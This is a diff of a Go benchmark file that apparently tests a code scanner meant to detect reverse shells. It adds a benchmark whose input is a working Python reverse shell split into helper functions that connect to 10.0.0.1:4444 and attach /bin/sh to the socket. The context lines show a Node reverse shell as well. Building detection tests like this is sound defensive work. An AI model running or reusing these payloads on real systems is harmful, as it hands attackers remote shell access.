@@ -31,6 +31,24 @@ func BenchmarkPython10Lines(b *testing.B) { benchCode(b, "python", typicalPy) }
 // BenchmarkPythonReverseShell: the ten-line reverse shell of the table.
 func BenchmarkPythonReverseShell(b *testing.B) { benchCode(b, "python", revPy) }
 
+// BenchmarkPythonHelpers: a reverse shell whose steps sit in three helper
+// functions the reader follows at their calls (py_funcs.go).
+func BenchmarkPythonHelpers(b *testing.B) {
+	benchCode(b, "python", `import socket, os, subprocess
+def connect(h, p):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect((h, p))
+    return s
+def wire(s):
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+def shell():
+    subprocess.call(["/bin/sh", "-i"])
+s = connect("10.0.0.1", 4444)
+wire(s)
+shell()`)
+}
+
 // BenchmarkNodeReverseShell: a Node reverse shell through the scanner.
 func BenchmarkNodeReverseShell(b *testing.B) {
 	benchCode(b, "node", `var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
